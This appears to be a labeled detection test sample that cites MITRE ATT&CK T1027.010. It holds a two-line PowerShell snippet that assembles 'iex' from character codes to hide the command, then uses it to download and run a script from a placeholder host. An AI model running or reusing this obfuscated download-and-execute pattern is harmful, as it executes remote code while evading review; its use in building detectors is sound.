# expect: disguised-command, download-and-run | source: MITRE ATT&CK T1027.010
$word = [string]::Join('', ([char[]](105, 101, 120)))
. $word (irm http://files.example.invalid/stage)
